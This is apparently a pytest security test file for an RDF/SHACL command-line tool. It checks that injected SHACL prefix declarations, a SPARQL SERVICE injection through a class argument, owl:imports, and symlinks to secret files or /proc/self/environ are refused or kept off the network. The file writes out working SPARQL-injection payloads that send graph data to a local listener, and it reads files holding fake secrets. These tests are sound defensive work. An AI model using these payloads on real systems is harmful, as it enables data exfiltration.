"""Hostile input, round 3 (issue 25): no command sends project data anywhere or reads files
outside what the user named. A TCP listener on 127.0.0.1 counts connections; every case runs
the command as a user does (``python -m axiskg``), so the network sandbox is in place."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from test_hostile_cli import cli

# A prefix declared on an owl:Ontology (pyshacl adds those to every query it runs) whose
# namespace closes the IRI and carries a query that sends a label of the data to the listener;
# the shape's own query looks empty, and its implicit class target sends it to pyshacl.
ATTACK = """@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
<http://e/ont> a owl:Ontology ; sh:declare [ sh:prefix "zz" ;
  sh:namespace "urn:zz> SELECT $this WHERE {{ <https://w3id.org/axiskg/id/actor/japan> ?p ?leak . SERVICE <http://127.0.0.1:{port}/x> {{ ?leak ?b ?c }} }} #"^^xsd:anyURI ] .
<https://w3id.org/axiskg/ontology#Actor> a sh:NodeShape, rdfs:Class ;
  sh:sparql [ sh:message "x" ; sh:prefixes <http://e/pfx> ; rdfs:seeAlso <http://e/ont> ; sh:select "# $this" ] .
"""


def _settle(listener, before: int) -> int:
    time.sleep(0.3)
    return listener.connections - before


@pytest.mark.parametrize("command", ["build", "release", "validate"])
def test_a_prefix_that_closes_its_iri_is_refused_before_any_query(project, listener, command):
    (project / "ontology" / "shapes" / "evil.ttl").write_text(ATTACK.format(port=listener.port))
    before = listener.connections
    proc = cli(command, root=project, timeout=120)
    assert _settle(listener, before) == 0
    assert proc.returncode == 2, proc.stderr
    where = "evil.ttl:5" if command == "validate" else "shapes"  # (validate names the file and line)
    assert (
        f"{where}: a sh:declare of <http://e/ont>: sh:namespace 'urn:zz> SELECT $this WHERE" in proc.stderr
        and "is not an absolute IRI; refused before it is written into any query" in proc.stderr
    )
    assert not (project / "dist").exists()


def test_a_prefix_name_that_carries_a_query_is_refused(project, listener):
    shapes = project / "ontology" / "shapes" / "evil.ttl"
    shapes.write_text(
        "@prefix sh: <http://www.w3.org/ns/shacl#> .\n"
        '<http://e/p> sh:declare [ sh:prefix "x: <urn:x> SELECT * WHERE { } #" ; sh:namespace "urn:y" ] .\n'
    )
    proc = cli("validate", root=project, timeout=120)
    assert proc.returncode == 2
    assert "evil.ttl:2: a sh:declare of <http://e/p>: sh:prefix 'x: <urn:x> SELECT * WHERE { } #' is not a SPARQL" in (
        proc.stderr
    )


# The same attack with the prefix check switched off: the operating system still keeps every
# byte of the project on the machine (the sandbox of build and release).
_WITHOUT_GATE = """
import sys
from axiskg import cli
from axiskg.shacl import shape_queries
shape_queries.check_shapes = lambda g: None
shape_queries._declaration = lambda g, d: (str(g.value(d, shape_queries.SH.prefix)), str(g.value(d, shape_queries.SH.namespace)))
sys.argv = ["axiskg", "--root", sys.argv[1], sys.argv[2]]
sys.exit(cli.main())
"""


@pytest.mark.parametrize("command", ["build", "release"])
def test_build_and_release_run_off_the_network(project, listener, command):
    (project / "ontology" / "shapes" / "evil.ttl").write_text(ATTACK.format(port=listener.port))
    before = listener.connections
    proc = subprocess.run(
        [sys.executable, "-c", _WITHOUT_GATE, str(project), command], capture_output=True, text=True, timeout=120
    )
    assert _settle(listener, before) == 0, proc.stderr
    assert "Network is unreachable" in proc.stderr or "Permission denied" in proc.stderr, proc.stderr[-2000:]
    assert not (project / "dist").exists()


def test_stats_runs_off_the_network(project, listener):
    iri = f"http://www.w3.org/2002/07/owl#Class> . SERVICE <http://127.0.0.1:{listener.port}/> {{ ?x ?y ?z }} }} #"
    before = listener.connections
    proc = cli("stats", "--class", iri, root=project, timeout=120)
    assert _settle(listener, before) == 0
    assert proc.returncode == 2


# --------------------------------------------------------------------------- owl:imports in reason

SECRET_ONTOLOGY = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:owl="http://www.w3.org/2002/07/owl#"
         xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">
  <owl:Ontology rdf:about="http://e/secret"/>
  <owl:Class rdf:about="http://e/Secret"><rdfs:subClassOf rdf:resource="http://www.w3.org/2002/07/owl#Nothing"/></owl:Class>
</rdf:RDF>
"""


@pytest.mark.parametrize("only", [False, True])
def test_reason_follows_no_owl_imports(project, tmp_path, listener, only):
    """Neither a GET to the imported URL nor a read of an imported ``file:``: the unsatisfiable
    class in the outside file would show (it did, with exit 1, before)."""
    secret = tmp_path / "secret.rdf"
    secret.write_text(SECRET_ONTOLOGY)
    with (project / "ontology" / "core.ttl").open("a") as f:
        f.write(
            f"\n<https://w3id.org/axiskg/ontology> owl:imports <{secret.as_uri()}>, "
            f"<http://127.0.0.1:{listener.port}/imported> .\n"
        )
    before = listener.connections
    args = ["reason", "--only", str(project / "data" / "facts.ttl")] if only else ["reason"]
    proc = cli(*args, root=project, timeout=180)
    assert _settle(listener, before) == 0
    assert proc.returncode == 0, proc.stderr
    assert "Unsatisfiable classes: 0" in proc.stdout and "Secret" not in proc.stdout
    assert f"axiskg: note: owl:imports <{secret.as_uri()}> not followed" in proc.stderr
    assert f"owl:imports <http://127.0.0.1:{listener.port}/imported> not followed" in proc.stderr


# --------------------------------------------------------------------------- temp files of killed builds

_WRITE_THEN = """
import os, signal, sys, time
from axiskg.atomic import write_temp
print(write_temp(sys.argv[1], b"half a graph"), flush=True)
if sys.argv[2] == "die":
    os.kill(os.getpid(), signal.SIGKILL)
time.sleep(120)
"""


def test_a_killed_builds_temp_files_are_removed_by_the_next_build(project):
    dist = project / "dist"
    killed = subprocess.run(
        [sys.executable, "-c", _WRITE_THEN, str(dist / "axiskg.nt"), "die"], capture_output=True, text=True
    )
    assert killed.returncode == -9
    left = dist / killed.stdout.strip().rsplit("/", 1)[1]
    assert left.exists()
    alive = subprocess.Popen(
        [sys.executable, "-c", _WRITE_THEN, str(dist / "axiskg.ttl"), "live"], stdout=subprocess.PIPE, text=True
    )
    try:
        busy = dist / alive.stdout.readline().strip().rsplit("/", 1)[1]
        proc = cli("build", root=project, timeout=120)
        assert proc.returncode == 0, proc.stderr
        assert not left.exists()
        assert busy.exists()  # another process still writing: left alone
        assert sorted(p.name for p in dist.glob(".*.tmp")) == [busy.name]
    finally:
        alive.kill()
        alive.wait()


# --------------------------------------------------------------------------- secrets in files and messages

FAKE_SECRET = "ghp_FAKESECRET0123456789abcdef"
SECRET_FILE = f"HOME=/root\0PATH=/usr/bin\0CI_TOKEN={FAKE_SECRET}\0LANG=C\0"


def _no_secret(proc) -> None:
    assert FAKE_SECRET not in proc.stdout and FAKE_SECRET not in proc.stderr
    assert "CI_TOKEN" not in proc.stdout + proc.stderr


@pytest.mark.parametrize("ext", ["rdf", "ttl", "nt", "jsonld"])
@pytest.mark.parametrize("command", ["validate", "build", "check", "stats", "reason"])
def test_a_symlink_out_of_the_project_is_refused_unread(project, tmp_path, command, ext):
    secret = tmp_path / "secret.env"
    secret.write_text(SECRET_FILE)
    link = project / "data" / f"leak.{ext}"
    link.symlink_to(secret)
    proc = cli(command, root=project, timeout=120)
    _no_secret(proc)
    assert proc.returncode == 2
    assert f"{link}: refused: a symbolic link to {secret}, outside {project}" in proc.stderr
    assert not (project / "dist").exists()


@pytest.mark.parametrize("command", [["validate", "{f}"], ["check", "{f}"], ["diff", "{f}", "{f}"], ["reason", "{f}"]])
def test_a_link_to_proc_self_environ_is_refused(project, tmp_path, command):
    link = tmp_path / "environ.rdf"
    link.symlink_to("/proc/self/environ")
    proc = cli(*[a.format(f=link) for a in command], root=project, env={"CI_TOKEN": FAKE_SECRET}, timeout=120)
    _no_secret(proc)
    assert proc.returncode == 2
    assert "environ.rdf: refused: /proc/" in proc.stderr and "is a file of the kernel (/proc), not an input" in (
        proc.stderr
    )


@pytest.mark.parametrize("ext", ["rdf", "ttl", "nt", "jsonld", "trig"])
@pytest.mark.parametrize("command", [["validate", "{f}"], ["check", "{f}"], ["diff", "{f}", "{f}"]])
def test_a_parser_quotes_no_more_than_a_short_excerpt(project, tmp_path, command, ext):
    """A file the user names that is not RDF (here through a symlink): the parser's message
    shows at most 24 characters of it, escaped."""
    secret = tmp_path / "secret.env"
    secret.write_text(SECRET_FILE)
    link = tmp_path / f"named.{ext}"
    link.symlink_to(secret)
    proc = cli(*[a.format(f=link) for a in command], root=project, timeout=120)
    _no_secret(proc)
    assert proc.returncode == 2 and f"named.{ext}" in proc.stderr
    if ext == "rdf":
        assert "Unexpected text event: 'HOME=/root\\x00PATH=/usr/bin…'" in proc.stderr


def test_a_kernel_folder_that_is_not_a_mount_point_refuses_only_its_own_files(tmp_path, monkeypatch):
    """The device of /proc, /sys or /dev says "a kernel file" only where that folder is a file
    system of its own; otherwise every ordinary file shares its device and would be refused."""
    from axiskg.errors import InputError
    from axiskg.rdfio import inputs

    plain = tmp_path / "plain"
    plain.mkdir()
    data = tmp_path / "data.ttl"
    data.write_text("<urn:a> <urn:b> <urn:c> .\n")
    monkeypatch.setattr(inputs, "KERNEL_FILE_SYSTEMS", (str(plain),))
    with inputs.open_input(data) as fh:
        assert fh.read()
    (plain / "inside.ttl").write_text("<urn:a> <urn:b> <urn:c> .\n")
    with pytest.raises(InputError, match="is a file of the kernel"):
        inputs.open_input(plain / "inside.ttl")
